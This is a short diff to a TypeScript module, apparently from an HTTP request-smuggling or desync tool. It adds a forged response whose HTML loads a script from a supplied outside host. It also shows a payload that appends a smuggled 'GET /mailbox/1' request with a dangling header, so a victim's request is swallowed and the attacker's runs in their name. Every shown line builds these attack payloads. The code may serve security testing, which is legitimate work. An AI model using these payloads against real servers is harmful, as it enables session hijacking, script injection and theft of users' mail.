@@ -14,6 +14,17 @@ export const forgery: Forgery = {
     permanence === 'temporary'
       ? response(503, 'Service Unavailable', [], fromText('Service Unavailable\n'))
       : response(200, 'OK', [['Allow', 'GET, OPTIONS']], fromText('')),
+  // It has to be whole in itself: whoever sends it has not read the request.
+  blindAnswer: ({ host, task }) =>
+    response(
+      200,
+      'OK',
+      [
+        ['Content-Type', 'text/html'],
+        ['Connection', 'close'],
+      ],
+      fromText(`<title>${task.host}</title>\n<script src="https://${host}/"></script>\n`),
+    ),
   lies: {
     // A request whose last header field takes in the first line of the client's: what the attacker asks for is done in the client's name.
     commands: (request) => concat(request, fromText('GET /mailbox/1 HTTP/1.1\r\nX-Swallowed: ')),
